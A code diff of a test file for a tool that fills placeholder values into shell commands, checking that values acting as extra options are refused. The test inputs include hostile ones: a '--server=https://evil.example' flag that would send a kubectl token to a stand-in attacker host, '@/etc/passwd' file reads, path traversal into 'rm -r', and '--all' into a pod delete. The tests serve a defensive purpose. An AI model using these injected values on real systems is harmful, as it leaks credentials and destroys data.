@@ -87,20 +87,19 @@ test.each([
 describe('a value that a program would take for more than a value', () => {
   test.each([
     ['kubectl delete pod {{v}}', '--all'],
+    // With another server, kubectl would send the token there.
+    ['kubectl get pod {{v}}', '--server=https://evil.example'],
     ['kubectl delete pod "{{v}}"', '-l app'],
     ['standin +{{v}} {{v}}', '@/etc/passwd x'],
     ['standin --data={{v}}', '@/etc/passwd x'],
     ['rm -r /data/{{v}}', '../.. x/..'],
     ['rm -r "$HOME/{{v}}"', 'a b/../..'],
   ])('is not filled into %s: %s', (block, value) => {
-    expect(filledCommand(block, 'bash', value, false)).toBeUndefined();
+    expect(filledCommand(block, 'bash', value)).toBeUndefined();
   });
 
-  test.each([
-    ['kubectl get pod {{v}}', '-l app', "kubectl get pod '-l app'"],
-    ['kubectl delete pod x-{{v}}', '--all x', "kubectl delete pod x-'--all x'"],
-  ])('is one in a command that only looks, or behind other text: %s with %s is %s', (block, value, expected) => {
-    expect(filledCommand(block, 'bash', value, block.includes('get'))).toBe(expected);
+  test('is one behind other text', () => {
+    expect(filledCommand('kubectl delete pod x-{{v}}', 'bash', '--all x')).toBe("kubectl delete pod x-'--all x'");
   });
 
   test.each([
@@ -127,7 +126,7 @@ test.each([
   ['$ ls\n{{v}}', 'console', 'this is output'],
   ['ls\n{{v}}', 'console', 'commands and output could not be told apart'],
 ])('of %s in %s it is said that %s', (block, language, reason) => {
-  const [placeholder] = readCommand(block, language, true).placeholders;
+  const [placeholder] = readCommand(block, language).placeholders;
 
   expect(placeholder && 'why' in placeholder.place && doubtInWords(placeholder.place.why)).toBe(reason);
 });
@@ -154,8 +153,6 @@ describe('a block that nobody would paste is not read for long, and takes inert 
   });
 
   test('a session that is too long says so', () => {
-    expect(readCommand(`$ ls\n${'out\n'.repeat(6_000)}`, 'console', true).doubt).toBe(
-      'it is too long to be taken apart',
-    );
+    expect(readCommand(`$ ls\n${'out\n'.repeat(6_000)}`, 'console').doubt).toBe('it is too long to be taken apart');
   });
 });
